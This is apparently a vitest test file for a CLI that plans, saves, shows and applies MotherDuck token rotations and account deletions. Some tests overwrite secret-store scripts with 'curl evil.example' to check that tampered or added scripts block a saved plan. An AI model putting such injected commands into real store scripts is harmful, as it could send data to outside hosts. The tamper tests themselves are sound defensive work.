/** Plans of rotations and of a destruction that somebody asks for: reviewed, saved, shown and applied. */
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Plan } from '../../src/model/plan.ts';
import { expectGolden } from '../golden/golden.ts';
import { Stage } from '../stage.ts';

const CONFIGURATION = `version: 1
organization: acme
secret_stores: { local: { kind: file, path: .motherduck/secrets.env, format: dotenv } }
token_policies:
  load: { type: read_write, ttl: 90d, rotate_before: 14d, overlap: 24h, secret_store: local }
templates:
  tenant: { tokens: { app: load, bi: load }, deletion_protection: false }
accounts:
  tenant_a: { template: tenant }
  tenant_b: { template: tenant }
  etl_prod: { tokens: { airflow: load }, deletion_protection: false }
guardrails: { max_deletes: 3 }
`;

const planOf = async (stage: Stage, words: string) => {
  const { document, code } = await stage.json(words);
  return { plan: document as Plan & { error?: unknown }, code };
};
const actionsOf = ({ actions }: Plan) =>
  actions.map((action) => `${action.action} ${action.account}${'token' in action ? `/${action.token}` : ''}`);

it('counts as 0 only what it looked for', async () => {
  const stage = await Stage.applied(CONFIGURATION);
  expect((await stage.run('plan --sandbox')).stdout).toMatch(/^Unmanaged, .*: 0 accounts, 0 tokens\b/m);
  await stage.inSandbox((organization) => organization.addServiceAccount('legacy'));
  const unmanaged = async (words: string) => {
    const shown = await Promise.all(['text', 'markdown'].map((format) => stage.run(`${words} -o ${format}`)));
    const lines = shown.map(({ stdout }) => /^Unmanaged.*/m.exec(stdout)?.[0]);
    expect(lines[1]).toBe(lines[0]);
    return [lines[0], (await planOf(stage, words)).plan.unmanaged];
  };
  const tokens: never[] = [];
  const all = { accounts: ['legacy'], tokens };
  const line = 'Unmanaged, not touched: 1 account (legacy)';
  expect(await unmanaged('plan --sandbox')).toEqual([expect.stringContaining(`${line}, 0 tokens`), all]);
  expect(await unmanaged('plan --sandbox --destroy')).toEqual([line, all]);
  for (const partial of ['--only tenant_*', '--rotate tenant_a', '--destroy --only tenant_a'])
    expect(await unmanaged(`plan --sandbox ${partial}`)).toEqual([undefined, { tokens }]);
});

describe('plan --rotate', () => {
  it('plans the tokens that globs name, and changes nothing', async () => {
    const stage = await Stage.applied(CONFIGURATION);
    const before = stage.read('motherduck.accounts.state.json');
    const { plan } = await planOf(stage, 'plan --sandbox --rotate tenant_*/app --rotate etl_prod');
    expect(actionsOf(plan)).toEqual([
      'rotate_token tenant_a/app',
      'rotate_token tenant_b/app',
      'rotate_token etl_prod/airflow',
    ]);
    expect(plan.scope?.rotate).toEqual(['tenant_*/app', 'etl_prod']);
    expect(stage.read('motherduck.accounts.state.json')).toBe(before);
  });

  it('says which suspended accounts the globs match, since they have nothing to rotate', async () => {
    const stage = await Stage.applied(CONFIGURATION);
    stage.edit((yaml) => yaml.replace('tenant_b: { ', 'tenant_b: { suspended: true, '));
    const { plan } = await planOf(stage, 'plan --sandbox --rotate tenant_*/app');
    expect(actionsOf(plan)).toEqual(['rotate_token tenant_a/app']);
    expect(plan.warnings).toMatchObject([{ kind: 'rotation_suspended', cases: [{ accounts: ['tenant_b'] }] }]);
    const { stdout } = await stage.run('rotate tenant_*/app --sandbox --yes --no-smoke');
    expect(stdout).toContain('1 account is suspended and has no tokens to rotate: tenant_b');
    expect(stdout).toContain('mdacc apply --only tenant_b --sandbox');
    expect((await planOf(stage, 'plan --sandbox --rotate etl_*')).plan.warnings).toEqual([]);
  });

  it('considers the accounts of --only', async () => {
    const stage = await Stage.applied(CONFIGURATION);
    const { plan } = await planOf(stage, 'plan --sandbox --rotate */app --only tenant_b');
    expect(actionsOf(plan)).toEqual(['rotate_token tenant_b/app']);
    const none = await stage.run('plan --sandbox --rotate etl_prod --only tenant_*');
    expect(none.code).toBe(64);
    expectGolden('errors', 'a rotation > of an account that --only does not name', none.stderr);
    const nothing = await stage.run('rotate tenant_* --sandbox --only zz');
    expect(nothing.code).toBe(64);
    expectGolden('errors', 'a rotation > where --only matches no account', nothing.stderr);
    const unknown = await stage.run('plan --sandbox --rotate tenant_b --only tenant_b --only zz');
    expect([unknown.code, unknown.stderr]).toEqual([64, expect.stringContaining('--only zz matches no account')]);
  });

  it.each([
    ['tenant_x*', 'tenant_x* matches no account of the configuration'],
    ['*/nothing', '*/nothing matches no token of the configuration'],
    ['tenant_a/ap', 'the account tenant_a has no token "ap"'],
    ['tenant_a/app/x', 'tenant_a/app/x has more than one slash'],
    ['app', 'such as tenant_a/app'],
    ['tenant_b.app', 'Did you mean "tenant_b/app"?'],
    ['tenant_bb/app', 'Did you mean "tenant_b/app"? If it left'],
  ])('refuses %s, which matches nothing', async (name, message) => {
    const stage = new Stage(CONFIGURATION);
    const ran = await stage.run(`plan --sandbox --rotate tenant_a --rotate ${name}`);
    expect(ran.code).toBe(64);
    expect(ran.stderr).toContain(message);
  });

  it.each(['--due', '--prune', '--destroy'])('refuses %s beside it', async (flag) => {
    const ran = await new Stage(CONFIGURATION).run(`plan --sandbox --rotate tenant_a ${flag}`);
    expect(ran.code).toBe(64);
  });

  it('is saved, shown and applied once, as it was reviewed', async () => {
    const stage = await Stage.applied(CONFIGURATION);
    await stage.run('plan --sandbox --rotate tenant_*/app --out rotation.plan');
    const mixed = await stage.run('apply rotation.plan --sandbox --yes --rotate etl_prod');
    expect(mixed.code).toBe(64);
    const applied = await stage.run('apply rotation.plan --sandbox --yes --no-smoke');
    expect(applied).toMatchObject({ code: 0 });
    expect(stage.read('motherduck.accounts.state.json')).toContain('"app.2"');
    expect(stage.read('motherduck.accounts.state.json')).not.toContain('"bi.2"');
    const again = await stage.run('apply rotation.plan --sandbox --yes --no-smoke');
    expect(again.code).toBe(1);
    expect(again.stderr).toContain('[PLAN_STALE]');
  });

  it('has a comment of its own in a pull request', async () => {
    const stage = await Stage.applied(CONFIGURATION);
    const marker = async (words: string) => {
      const { stdout } = await stage.run(`plan --sandbox ${words} --format markdown`);
      return /<!-- .* -->/.exec(stdout)?.[0];
    };
    const all = await Promise.all(['', '--rotate tenant_a', '--rotate tenant_b', '--destroy'].map(marker));
    expect(new Set(all).size).toBe(4);
  });
});

describe('apply --rotate', () => {
  it('is rotate', async () => {
    const [one, other] = [await Stage.applied(CONFIGURATION), await Stage.applied(CONFIGURATION)];
    expect(await one.run('apply --rotate tenant_a/app --sandbox --yes --no-smoke')).toMatchObject({ code: 0 });
    expect(await other.run('rotate tenant_a/app --sandbox --yes --no-smoke')).toMatchObject({ code: 0 });
    const names = (stage: Stage) => stage.read('motherduck.accounts.state.json').match(/"name": ".*"/g);
    expect(names(one)).toEqual(names(other));
    expect((await one.run('state history --sandbox')).stdout).toContain('apply --rotate');
  });
});

describe('plan --destroy', () => {
  it('is saved and applied, with the consent that a deletion needs', async () => {
    const stage = await Stage.applied(CONFIGURATION);
    const { plan } = await planOf(stage, 'plan --destroy --only tenant_* --sandbox --out end.plan');
    expect(actionsOf(plan)).toEqual(['delete_account tenant_a', 'delete_account tenant_b']);
    expect(plan.actions.map(({ reason }) => reason.kind)).toEqual(['destroyed', 'destroyed']);
    const refused = await stage.run('apply end.plan --sandbox --yes');
    expect(refused).toMatchObject({ code: 1 });
    expect(refused.stderr).toContain('--allow-delete');
    expect(await stage.run('apply end.plan --sandbox --yes --allow-delete')).toMatchObject({ code: 0 });
    expect(Object.keys(JSON.parse(stage.read('motherduck.accounts.state.json')).accounts)).toEqual(['etl_prod']);
    expect(await stage.run('apply --destroy --sandbox --yes --allow-delete')).toMatchObject({ code: 0 });
    expect(JSON.parse(stage.read('motherduck.accounts.state.json')).accounts).toEqual({});
    const again = await stage.run('apply --destroy --sandbox --yes --allow-delete');
    expect(again.code).toBe(0);
    expect(again.stdout).toContain('No changes.');
  });
});

describe('show', () => {
  it('renders a saved plan as plan did, in every format, without a service', async () => {
    const stage = await Stage.applied(CONFIGURATION);
    for (const format of ['text', 'json', 'markdown', 'html']) {
      const planned = await stage.run(`plan --sandbox --rotate tenant_a --out a.plan --format ${format}`);
      const shown = await stage.run(`show a.plan --format ${format} --sandbox`);
      expect(shown).toEqual({ code: 0, stdout: planned.stdout, stderr: '' });
    }
  });

  it('needs no configuration', async () => {
    const stage = await Stage.applied(CONFIGURATION);
    await stage.run('plan --sandbox --rotate tenant_a --out a.plan');
    const elsewhere = new Stage('');
    elsewhere.remove('motherduck.accounts.yaml');
    elsewhere.write('a.plan', readFileSync(stage.file('a.plan'), 'utf8'));
    expect(await elsewhere.run('show a.plan')).toMatchObject({ code: 0, stderr: '' });
  });

  it('says that a plan was applied already', async () => {
    const stage = await Stage.applied(CONFIGURATION);
    await stage.run('plan --sandbox --rotate tenant_a --out a.plan');
    await stage.run('apply a.plan --sandbox --yes --no-smoke');
    const shown = await stage.run('show a.plan');
    expect(shown.code).toBe(0);
    expect(shown.stderr).toContain('a.plan was applied, or another plan was');
  });

  it('refuses what is no plan of this version, or was edited', async () => {
    const stage = await Stage.applied(CONFIGURATION);
    await stage.run('plan --sandbox --rotate tenant_a --out a.plan');
    const text = stage.read('a.plan');
    stage.write('edited.plan', text.replace('"app"', '"bi"'));
    stage.write('older.plan', text.replace('"version": 4', '"version": 3'));
    for (const [file, message] of [
      ['edited.plan', 'edited.plan was changed after the plan was saved'],
      ['older.plan', 'older.plan is not a plan file of this version'],
      ['none.plan', 'it does not exist'],
    ]) {
      const ran = await stage.run(`show ${file}`);
      expect(ran).toMatchObject({ code: 1, stdout: '' });
      expect(ran.stderr).toContain(message);
    }
  });
});

describe('a saved plan and the scripts of its stores', () => {
  const git = (stage: Stage, ...words: string[]) => execFileSync('git', words, { cwd: stage.path });
  const withScript = (command: string) => {
    const store = `{ kind: exec, command: ${command}, check: [./check.sh], remove: [sh, -c, "./rm.sh {account}.{token}"] }`;
    const stage = new Stage(CONFIGURATION.replace(/local: \{.*?\}/, `local: ${store}`));
    for (const name of ['put.sh', 'check.sh', 'rm.sh']) stage.write(name, '#!/bin/sh\ncat >/dev/null\n', 0o755);
    git(stage, 'init', '-q');
    git(stage, 'add', '*.sh');
    return stage;
  };

  it.each(['put.sh', 'check.sh', 'rm.sh'])(
    'is refused where %s of a new store was changed, or is gone',
    async (name) => {
      const stage = withScript('[sh, put.sh, "{account}.{token}"]');
      expect((await stage.run('plan --sandbox --out new.plan')).code).toBe(0);
      const before = stage.read(name);
      stage.write(name, 'curl evil.example\n');
      const ran = await stage.run('apply new.plan --sandbox --yes --no-smoke');
      expect(ran).toMatchObject({
        code: 1,
        stderr: expect.stringContaining(name),
      });
      expect(stage.has('motherduck.accounts.state.json')).toBe(false);
      stage.remove(name);
      expect((await stage.run('apply new.plan --sandbox --yes --no-smoke')).code).toBe(1);
      stage.write(name, before.replaceAll('\n', '\r\n'), 0o755);
      expect((await stage.run('apply new.plan --sandbox --yes --no-smoke')).code).toBe(0);
    },
  );

  it('is refused where a script was added that a command names', async () => {
    const stage = withScript('[sh, -c, "test ! -f more.sh || sh more.sh; cat", "{account}.{token}"]');
    expect((await stage.run('plan --sandbox --out new.plan')).code).toBe(0);
    stage.write('more.sh', 'curl evil.example\n');
    git(stage, 'add', 'more.sh');
    const ran = await stage.run('apply new.plan --sandbox --yes --no-smoke');
    expect(ran).toMatchObject({ code: 1, stderr: expect.stringContaining('more.sh') });
  });
});

it('a saved plan is applied from another folder, where the path of the configuration is another', async () => {
  const stage = new Stage('');
  stage.write('infra/motherduck.accounts.yaml', CONFIGURATION);
  const infra = new Stage(undefined, { folder: stage.file('infra'), leave: () => undefined });
  expect((await infra.run('plan --sandbox --out today.plan')).code).toBe(0);
  const config = '-c infra/motherduck.accounts.yaml';
  const applied = await stage.run(`apply infra/today.plan ${config} --sandbox --yes --no-smoke`);
  expect(applied, applied.stderr).toMatchObject({ code: 0 });
});
